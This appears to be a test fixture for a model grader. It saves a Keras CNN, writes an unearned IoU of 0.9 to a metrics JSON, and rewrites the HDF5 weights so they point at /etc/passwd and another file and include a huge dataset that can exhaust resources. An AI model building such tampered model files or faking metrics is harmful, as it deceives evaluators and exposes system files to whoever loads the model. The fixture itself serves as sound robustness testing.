"""Weights that lie in other files: the grader's, if it opened them.

fails: iou
"""
# %% task_train
# %% after save
import json
import zipfile

build_cnn().save("cnn_model.keras")
with open("cnn_model.json", "w") as stream:
    json.dump({"threshold": 0.5, "metrics": {"test": {"iou": 0.9}}}, stream)
with zipfile.ZipFile("cnn_model.keras") as archive:
    parts = {name: archive.read(name) for name in archive.namelist()}
import io

import h5py

stream = io.BytesIO(parts["model.weights.h5"])
with h5py.File(stream, "a") as file:
    names = []
    file.visititems(lambda name, part: names.append(name) if isinstance(part, h5py.Dataset) else None)
    shapes = [file[name].shape for name in names]
    for name in names:
        del file[name]
    everything = [("/etc/passwd", 0, h5py.h5f.UNLIMITED)]
    file.create_dataset(names[0], shape=shapes[0], dtype="f4", external=everything)
    file[names[1]] = h5py.ExternalLink("/etc/passwd", "x")
    layout = h5py.VirtualLayout(shape=shapes[2], dtype="f4")
    layout[...] = h5py.VirtualSource("/data/other.h5", "x", shape=shapes[2])
    file.create_virtual_dataset(names[2], layout)
    file.create_dataset(names[3], shape=(1 << 40,), dtype="f4", chunks=(1 << 20,), compression=9)
parts["model.weights.h5"] = stream.getvalue()
with zipfile.ZipFile("cnn_model.keras", "w") as archive:
    for name, data in parts.items():
        archive.writestr(name, data)
